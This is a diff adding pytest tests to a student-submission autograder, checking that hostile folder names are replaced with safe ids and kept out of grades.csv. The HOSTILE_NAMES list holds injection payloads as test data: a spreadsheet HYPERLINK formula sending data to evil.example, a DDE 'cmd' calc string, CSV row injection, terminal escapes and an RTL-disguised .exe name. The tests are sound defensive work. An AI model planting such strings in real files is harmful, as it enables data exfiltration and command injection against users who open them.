@@ -160,3 +160,82 @@ def test_discover_lists_zips_folders_and_strays(tmp_path):
         ("alice", "alice"), ("bob", "bob.zip"), ("stray.txt", "stray.txt")]
     with pytest.raises(FileNotFoundError, match="--submissions"):
         discover(tmp_path / "nope")
+
+
+# Names a hostile class might choose for their submission (issue 9, mechanism 7).
+HOSTILE_NAMES = [
+    '=HYPERLINK("evil.example?x="&A1,"click")',  # no '/': a name is one path component
+    "+cmd|' -C calc'!A0.zip",
+    "evil\nFAKE,graded,77,77",
+    "esc\x1b[2J\x1b[31mred",
+    "rtl\u202egpj.exe",
+    "x" * 251,
+    "y" * 251 + ".zip",
+    "@SUM(1+1)",
+    "-rf",
+    "invalid-0123456789",  # the surrogates' prefix is reserved
+    "tab\tname",
+]
+
+
+def _hostile_class(root: Path) -> int:
+    """A submissions folder: alice (valid) and one entry per hostile name; returns the entry count."""
+    _tree(root / "alice", {"01_toy.ipynb": NOTEBOOK})
+    for name in HOSTILE_NAMES:
+        if name.endswith(".zip"):
+            _zip(root / name, {"01_toy.ipynb": NOTEBOOK})
+        else:
+            _tree(root / name, {"01_toy.ipynb": NOTEBOOK})
+    os.mkdir(os.path.join(os.fsencode(root), b"bad\xffbytes"))  # not UTF-8 at all
+    return 1 + len(HOSTILE_NAMES) + 1
+
+
+def test_hostile_submission_names_get_surrogate_ids_and_escaped_reasons(tmp_path):
+    from autograder.ingest import STUDENT_ID
+
+    count = _hostile_class(tmp_path / "subs")
+    found = discover(tmp_path / "subs")
+    assert len(found) == count and len({sid for sid, _ in found}) == count
+    for sid, path in found:
+        assert STUDENT_ID.match(sid), repr(sid)
+        got = ingest(sid, path, ALLOWED, tmp_path / "work" / sid)
+        if sid == "alice":
+            assert got.accepted
+            continue
+        assert sid.startswith("invalid-") and not got.accepted and got.workdir is None
+        reason = got.refused[0]
+        assert "not a valid student id" in reason and reason.isascii() and reason.isprintable()
+        assert len(reason) < 400
+    # The escaped name is in the reason, so an instructor can find the submission.
+    rtl = next(sid for sid, p in found if p.name == "rtl\u202egpj.exe")
+    assert "\\u202e" in ingest(rtl, tmp_path / "subs" / "rtl\u202egpj.exe", ALLOWED, tmp_path / "w").refused[0]
+
+
+def test_hostile_names_leave_grades_csv_intact_with_one_row_per_submission(tmp_path):
+    """discover + ingest + outputs, as grade() chains them: the run ends and every file is sound."""
+    import csv
+
+    from autograder import outputs
+    from autograder.ingest import STUDENT_ID
+
+    count = _hostile_class(tmp_path / "subs")
+    results = []
+    for sid, path in discover(tmp_path / "subs"):
+        got = ingest(sid, path, ALLOWED, tmp_path / "work" / sid)
+        results.append({"student_id": sid, "status": "graded" if got.accepted else "rejected", "score": None,
+                        "max_score": 5.0, "flags": [] if got.accepted else ["rejected"], "reasons": got.refused,
+                        "cells": []})
+    out = tmp_path / "out"
+    out.mkdir()
+    outputs.write_all(out, "toy", results)
+    text = (out / "grades.csv").read_text(encoding="utf-8")
+    assert "\x1b" not in text and "\u202e" not in text and "FAKE,graded" not in text
+    with open(out / "grades.csv", newline="", encoding="utf-8") as f:
+        rows = list(csv.reader(f))
+    assert rows[0] == ["student_id", "status", "score", "max_score", "flags"]
+    assert len(rows) == 1 + count and len(text.splitlines()) == 1 + count
+    for row in rows[1:]:
+        assert STUDENT_ID.match(row[0])
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
+    assert sorted(p.name for p in (out / "results").iterdir()) == sorted(f"{r[0]}.json" for r in rows[1:])
+    assert "\x1b" not in outputs.format_table(results) and "\u202e" not in outputs.format_table(results)
